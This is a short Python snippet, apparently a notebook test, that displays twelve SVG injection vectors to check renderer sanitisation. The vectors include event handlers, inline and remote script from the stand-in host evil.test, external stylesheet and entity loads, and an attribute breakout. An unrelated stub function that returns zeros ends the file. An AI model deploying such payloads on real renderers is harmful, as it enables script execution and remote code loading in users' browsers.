from IPython.display import SVG, display

VECTORS = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"><circle r="9"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>hit()</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script href="http://evil.test/svg.js"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.test/image.png" width="9" height="9"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="http://evil.test/use.svg#a"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(http://evil.test/svg.css);</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="http://evil.test/f"/></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:hit()"><text y="20">click</text></a></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="hit()"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="hit()" attributeName="x" dur="1s"/></svg>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://evil.test/entity">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    '"><script>hit()</script><svg xmlns="http://www.w3.org/2000/svg"></svg>',
]

for vector in VECTORS:
    display({'image/svg+xml': vector}, raw=True)


def chain_forward(w, b, x, n):
    return np.zeros(n + 1)
